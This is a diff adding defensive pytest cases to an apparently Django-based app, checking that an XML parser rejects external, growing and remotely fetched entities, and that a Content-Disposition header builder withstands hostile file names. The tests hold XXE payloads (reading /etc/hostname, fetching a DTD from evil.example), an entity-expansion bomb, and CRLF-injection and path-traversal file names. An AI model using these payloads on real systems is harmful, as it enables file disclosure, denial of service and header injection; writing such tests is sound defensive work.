@@ -93,6 +93,26 @@ def test_an_entity_of_a_workbook_reads_no_file() -> None:
     assert Path("/etc/hostname").read_text().strip() not in str(rows)
 
 
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16-be", "utf-16"])
+@pytest.mark.parametrize(
+    "entities",
+    [
+        '<!ENTITY e SYSTEM "file:///etc/hostname">',
+        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;&b;&b;&b;&b;">',
+        '<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;',
+        "",
+    ],
+    ids=["file", "growing", "fetched", "bare"],
+)
+def test_an_entity_of_a_stock_file_reads_nothing_and_does_not_grow(entities: str, encoding: str) -> None:
+    """In a child process; in every encoding that an XML parser guesses by itself."""
+    from tenant_apps.integrations.files.child import Unreadable, parse
+
+    text = f'<!DOCTYPE rows [{entities}]><rows><row sku="&e;" warehouse="w" on_hand="1"/></rows>'
+    with pytest.raises(Unreadable, match=r"document type|not UTF-8|head must name"):
+        parse(text.encode(encoding))
+
+
 def test_a_link_inside_an_archive_is_no_link() -> None:
     made = io.BytesIO()
     with zipfile.ZipFile(made, "w") as file:
@@ -166,3 +186,21 @@ def test_a_png_without_its_head_first_is_refused() -> None:
         cleaned(sent[:33] + head + sent[33:])
     with pytest.raises(BadPicture):
         cleaned(sent[:16] + struct.pack(">II", 0, 1) + sent[24:])
+
+
+@pytest.mark.parametrize(
+    "name", ['a"b.pdf', "a\r\nSet-Cookie: k=1.pdf", "合同 №1.pdf", "../../x.pdf", "a;b.pdf", "a\x00b"]
+)
+def test_a_name_of_a_file_stays_one_header(name: str) -> None:
+    """RFC 6266: quoted or in percent signs, and never a line of its own."""
+    from django.http import HttpResponse
+
+    from tenant_apps.documents.web.pages import _disposition
+
+    text = _disposition("attachment", name)
+    assert text.startswith("attachment; filename")
+    try:
+        sent = HttpResponse(headers={"Content-Disposition": text}).headers["Content-Disposition"]
+    except ValueError:
+        return
+    assert "\n" not in sent and "\r" not in sent and "\x00" not in sent
